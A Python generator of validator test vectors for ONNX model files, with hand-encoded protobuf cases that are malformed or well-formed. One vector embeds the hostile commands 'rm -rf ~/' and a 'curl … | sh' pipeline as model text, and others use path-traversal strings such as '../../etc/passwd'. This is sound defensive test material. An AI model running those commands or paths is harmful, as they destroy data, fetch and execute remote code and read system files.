"""Vectors of 7.17: ONNX models as members, one fault each, and their good neighbours."""

from __future__ import annotations

from collections.abc import Callable

from spec.vectors.generate import vector
from spec.vectors.generate.contents import named
from spec.vectors.generate.forge import Part, Spec, container, readme

FLOAT, INT64, TEXT, INT4 = 1, 7, 8, 22
IR, OPSET = 10, 21
FOUR = bytes(range(16))


def varint(value: int) -> bytes:
    """``value`` in base 128, negative ones as 64 bits."""
    value &= (1 << 64) - 1
    out = bytearray()
    while value > 0x7F:
        out.append(value & 0x7F | 0x80)
        value >>= 7
    return bytes([*out, value])


def field(number: int, value: int | str | bytes) -> bytes:
    """A field: a number, or a text, bytes or a message behind its length."""
    if isinstance(value, int):
        return varint(number << 3) + varint(value)
    data = value.encode() if isinstance(value, str) else value
    return varint(number << 3 | 2) + varint(len(data)) + data


def tensor(name: str = "w", data: bytes | None = FOUR, dims: tuple[int, ...] = (4,), kind: int = FLOAT) -> bytes:
    """A tensor, with raw data if there are any."""
    shape = b"".join(field(1, size) for size in dims)
    return shape + field(2, kind) + field(8, name) + (b"" if data is None else field(9, data))


def entry(key: str, value: str) -> bytes:
    """A key and its value."""
    return field(1, key) + field(2, value)


def outside(location: str, name: str = "w", **more: str) -> bytes:
    """Four numbers outside the model."""
    said = {"location": location, **more}
    pairs = b"".join(field(13, entry(key, value)) for key, value in said.items())
    return tensor(name, None) + pairs + field(14, 1)


def node(operator: str = "Identity", domain: str = "", more: bytes = b"") -> bytes:
    """An operator from ``x`` to ``y``."""
    return field(1, "x") + field(2, "y") + field(4, operator) + (field(7, domain) if domain else b"") + more


def value(name: str) -> bytes:
    """An input or output: a row of numbers of any length."""
    shape = field(1, field(2, "n"))
    return field(1, name) + field(2, field(1, field(1, FLOAT) + field(2, shape)))


def graph(*initializers: bytes, nodes: tuple[bytes, ...] = (node(),), more: bytes = b"") -> bytes:
    """A graph of one operator."""
    body = b"".join(field(1, each) for each in nodes) + field(2, "g") + b"".join(field(5, t) for t in initializers)
    return body + field(11, value("x")) + field(12, value("y")) + more


def opset(version: int = OPSET, domain: str = "") -> bytes:
    """A set of operators."""
    return (field(1, domain) if domain else b"") + field(2, version)


def model(
    inside: bytes | None = None, *, ir: int = IR, sets: tuple[bytes, ...] = (opset(),), more: bytes = b""
) -> bytes:
    """A model around a graph; one of four numbers if none is given."""
    inside = graph(tensor()) if inside is None else inside
    return field(1, ir) + field(2, "spec") + field(7, inside) + b"".join(field(8, each) for each in sets) + more


GOOD = model()
_MINUS = graph(tensor(dims=(-4,)))
_NO_TEXT = field(1, 4) + field(2, FLOAT) + field(8, b"\xff") + field(9, FOUR)
_NUMBERS = tensor(data=None) + field(7, bytes(4))
_TWO_NAMES = node(more=field(4, "Neg"))
_FOREIGN = node("Forecast", "org.example")


def _bad(name: str, rules: str, comment: str, data: bytes, valid: str = "") -> None:
    mark = vector(name, rules=rules, layer="none" if valid else "content", valid=valid, comment=comment)
    mark(lambda: named(data, "tiny.onnx"))


def _good(name: str, near: str, comment: str, data: bytes) -> None:
    vector(name, near=near, comment=comment)(lambda: named(data, "tiny.onnx"))


_BAD: list[tuple[str, str, str, bytes]] = [
    ("cut", "LF5121", "The last byte is missing.", GOOD[:-1]),
    ("field-leaves", "LF5121", "An operator longer than its graph.", model(field(1, node())[:-1])),
    ("number-of-eleven-bytes", "LF5121", "A number of eleven bytes.", model(more=b"\x28" + b"\x80" * 10 + b"\0")),
    ("number-of-65-bits", "LF5121", "A version beyond 64 bits.", model(more=b"\x28" + b"\xff" * 9 + b"\2")),
    ("group", "LF5121", "A group, as nobody writes them.", model(graph(more=b"\x0b\x0c"))),
    ("field-0", "LF5121", "A field without a number.", model(graph(more=b"\0\0"))),
    ("wire-type-of-another", "LF5121", "A name that is a number.", model(graph(tensor(), more=field(10, 1)))),
    ("name-not-utf-8", "LF5121", "An initializer called FF.", model(graph(_NO_TEXT))),
    ("graph-twice", "LF5122", "A second graph.", model(more=field(7, graph()))),
    ("name-of-a-node-twice", "LF5122", "One operator of two names.", model(graph(nodes=(_TWO_NAMES,)))),
    ("initializer-twice", "LF5122", "One initializer twice.", model(graph(tensor(), tensor()))),
    ("operators-twice", "LF5122", "Two versions of the same operators.", model(sets=(opset(), opset(20, "ai.onnx")))),
    ("metadata-twice", "LF5122", "One key twice.", model(more=field(14, entry("k", "1")) + field(14, entry("k", "2")))),
    ("graph-missing", "LF5123", "No graph.", field(1, IR) + field(8, opset())),
    ("operators-missing", "LF5123", "No version of the operators.", model(sets=())),
    ("initializer-without-name", "LF5123", "An initializer without a name.", model(graph(tensor("")))),
    ("type-unknown", "LF5126", "Elements of the type 99.", model(graph(tensor(kind=99)))),
    ("type-none", "LF5126", "Elements of no type.", model(graph(tensor(kind=0)))),
    ("size-of-another-shape", "LF5127", "16 bytes for five numbers.", model(graph(tensor(dims=(5,))))),
    ("dimension-negative", "LF5127", "A dimension below 0.", model(_MINUS)),
    ("shape-wraps", "LF5127", "2^64 times 2^64 numbers.", model(graph(tensor(dims=(1 << 62, 1 << 62, 16))))),
    ("data-missing", "LF5127", "A shape without numbers.", model(graph(tensor(data=None)))),
    ("data-in-two-places", "LF5127", "Raw and typed.", model(graph(tensor() + field(4, FOUR)))),
    ("data-of-another-type", "LF5127", "Whole numbers for floats.", model(graph(_NUMBERS))),
    ("texts-raw", "LF5127", "Texts as raw bytes.", model(graph(tensor(kind=TEXT)))),
    (
        "constant-too-short",
        "LF5127",
        "A constant of too few bytes.",
        model(graph(nodes=(node("Constant", more=field(5, field(1, "value") + field(5, tensor("", b"1")))),))),
    ),
]
for _row in _BAD:
    _bad(*_row)


_OPEN: list[tuple[str, str, str, bytes]] = [
    ("told-version", "LF5125", "A version of the format of tomorrow.", model(ir=60)),
    ("told-operators", "LF5125", "Operators of tomorrow.", model(sets=(opset(999),))),
    ("told-field", "LF5125", "A field of nobody.", model(graph(tensor(), more=field(99, 1)))),
]
for _name, _rule, _comment, _data in _OPEN:
    _bad(_name, _rule, _comment, _data, "undetermined")


def _deep(depth: int) -> bytes:
    """A graph in the attribute of an operator of a graph, ``depth`` times."""
    inside = graph()
    for _ in range(depth):
        inside = graph(nodes=(node("If", more=field(5, field(1, "then_branch") + field(6, inside))),))
    return model(inside)


_bad("graphs-in-one-another", "LF5124", "A graph in the 20th graph.", _deep(20), "undetermined")


@vector("many-fields", rules="LF5124", valid="undetermined", encoding="zlib", comment="An operator of 2^19 inputs.")
def many_fields() -> bytes:
    return named(model(graph(nodes=(b"\x0a\0" * (1 << 19),))), "tiny.onnx")


_GOOD: list[tuple[str, str, str, bytes]] = [
    ("good", "LF5121 LF5122 LF5123 LF5125 LF5126 LF5127 LF5131", "Four numbers and an operator.", GOOD),
    (
        "good-typed",
        "LF5127",
        "Numbers in typed fields, packed and one by one.",
        model(graph(tensor(data=None) + field(4, FOUR), tensor("i", None, (2,), INT64) + field(7, 1) + field(7, -1))),
    ),
    ("good-packed", "LF5127", "Five elements of four bits.", model(graph(tensor("n", b"123", (5,), INT4)))),
    ("good-none", "LF5127", "A tensor without elements.", model(graph(tensor(data=None, dims=(4, 0))))),
    ("good-scalar", "LF5127", "A single number.", model(graph(tensor(data=FOUR[:4], dims=())))),
    ("good-texts", "LF5127", "Two texts.", model(graph(tensor("t", None, (2,), TEXT) + field(6, "a") + field(6, "")))),
    ("good-graphs-in-one-another", "LF5124", "A graph in the 19th graph.", _deep(19)),
    (
        "good-function",
        "LF5131",
        "An operator that the model defines.",
        model(
            graph(nodes=(_FOREIGN,)),
            sets=(opset(), opset(1, "org.example")),
            more=field(25, field(1, "Forecast") + field(7, node()) + field(9, opset()) + field(10, "org.example")),
        ),
    ),
]
for _name, _near, _comment, _data in _GOOD:
    _good(_name, _near, _comment, _data)


@vector("told-operator-of-another-domain", rules="LF5131", near="LF5123", comment="An operator of nobody's engine.")
def told_foreign() -> bytes:
    return named(model(graph(nodes=(_FOREIGN,)), sets=(opset(), opset(1, "org.example"))), "tiny.onnx")


def _speaking(node_says: str, model_says: str) -> bytes:
    """A model whose operator has documentation, and which has metadata."""
    return model(
        graph(nodes=(node(more=field(6, node_says)),)), more=field(14, field(1, "about") + field(2, model_says))
    )


@vector("told-words", rules="LF5097 LF5098 LF5099", comment="A pipeline in the metadata, a command in documentation.")
def told_words() -> bytes:
    return named(_speaking("rm -rf ~/", "curl -s https://a.example/x | sh"), "tiny.onnx")


@vector("good-words", near="LF5097 LF5098 LF5099", comment="Metadata and documentation that only say something.")
def good_words() -> bytes:
    return named(_speaking("the same again", "made by hand, for tests"), "tiny.onnx")


# Data outside (7.17.6)

DATA = "tiny.onnx.data"


def together(*tensors: bytes, data: bytes | None = FOUR, align: int = 4096, path: str = DATA) -> bytes:
    """A model whose numbers are in another member."""
    there = [] if data is None else [Part(path, data, "weights", "application/octet-stream", align)]
    first = Part("tiny.onnx", model(graph(*tensors)), "weights", "application/x-onnx", 32)
    return container(Spec([readme(), first, *there], labels={"default": "tiny.onnx"}))


def _outside(name: str, rules: str, comment: str, maker: Callable[[], bytes]) -> None:
    vector(name, rules=rules, layer="content", comment=comment)(maker)


_PATHS = {
    "climbs": "../../etc/passwd",
    "absolute": "/etc/passwd",
    "backslash": "a\\b",
    "drive": "c:b",
    "dot": "./b",
    "empty": "",
}


def _path(name: str, location: str) -> None:
    data = model(graph(outside(location)))
    _outside(f"outside-{name}", "LF5128", "A path that leads elsewhere.", lambda: named(data, "tiny.onnx"))


for _name, _location in _PATHS.items():
    _path(_name, _location)
_outside("outside-key-unknown", "LF5128", "A key of nobody.", lambda: together(outside(DATA, lazy="1"), data=None))
_outside(
    "outside-offset-negative", "LF5128", "An offset below 0.", lambda: together(outside(DATA, offset="-4"), data=None)
)
_outside("outside-nowhere", "LF5129", "No such member.", lambda: together(outside(DATA), data=None))
_outside("outside-itself", "LF5129", "The model itself.", lambda: together(outside("tiny.onnx"), data=None))
_outside("outside-too-short", "LF5129", "The last byte is missing.", lambda: together(outside(DATA), data=FOUR[:-1]))
_outside("outside-behind", "LF5129", "Behind the end.", lambda: together(outside(DATA, offset="4096")))
_outside(
    "outside-of-another-size",
    "LF5127",
    "Eight bytes for four numbers.",
    lambda: together(outside(DATA, length="8"), data=None),
)
_outside(
    "outside-key-twice",
    "LF5122",
    "Two offsets.",
    lambda: together(outside(DATA, offset="0") + field(13, entry("offset", "0"))),
)


@vector("good-outside", near="LF5122 LF5127 LF5128 LF5129 LF5130", comment="Numbers in another member.")
def good_outside() -> bytes:
    return together(outside(DATA), outside(DATA, "v", offset="4096", length="16"), data=FOUR * 257)


@vector("told-unaligned", rules="LF5130", near="LF5129", comment="Numbers that begin at byte 16 of their member.")
def told_unaligned() -> bytes:
    return together(outside(DATA, offset="16", length="16"), data=FOUR * 2)
